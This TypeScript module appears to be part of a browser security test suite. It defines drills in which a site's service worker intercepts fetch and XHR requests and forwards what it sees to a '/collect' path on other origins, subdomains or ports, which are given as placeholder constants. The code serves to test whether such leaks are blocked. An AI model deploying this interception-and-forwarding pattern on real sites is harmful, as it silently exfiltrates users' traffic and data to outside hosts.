/** The site's own service worker stands between page and network: it tells what it sees and passes all of it on. */
import { ELSEWHERE, ENDPOINT, OTHER_PORT, SITE, SUBDOMAIN } from "../addresses.ts";
import { buildPage } from "../answers.ts";
import type { AttackPlan } from "../attack.ts";
import type { Stage } from "../stage.ts";

const TARGETS = [ELSEWHERE, OTHER_PORT, SUBDOMAIN, SITE] as const;
const WAYS = ["fetch", "fetch with a Request", "fetch keep-alive", "async XHR"] as const;

export function buildServiceWorkers(): AttackPlan[] {
  return TARGETS.flatMap((target) =>
    WAYS.map((way) => ({
      group: "service workers",
      title: `the site's service worker passes on to ${target}/collect what it sees of a ${way}`,
      control: "injector" as const,
      mayReach: "endpoint" as const,
      act: async (stage) => sendThroughWorker(stage, `${target}/collect`, way),
    })),
  );
}

async function sendThroughWorker(stage: Stage, forward: string, way: string): Promise<string> {
  const scope = `/scope/${stage.marker}/`;
  stage.servers.pages.set(scope, { type: "text/html", body: buildPage() });
  const page = await stage.ownPage(SITE + scope);
  const script = `/service-worker.js?forward=${encodeURIComponent(`${forward}?drill=${stage.marker}`)}`;
  await page.evaluate(
    async ([address, path]) => {
      const controlled = new Promise((resolve) => {
        navigator.serviceWorker.addEventListener("controllerchange", resolve, { once: true });
      });
      await navigator.serviceWorker.register(address, { scope: path });
      await controlled;
    },
    [script, scope] as const,
  );
  const saw = await stage.send(page, { way, url: ENDPOINT });
  // The worker's report has been posted before the answer to a later request.
  await stage.send(page, { way: "fetch", url: `${SITE}/api/after`, body: "x" });
  await page.evaluate(async (path) => (await navigator.serviceWorker.getRegistration(path))?.unregister(), scope);
  return saw;
}
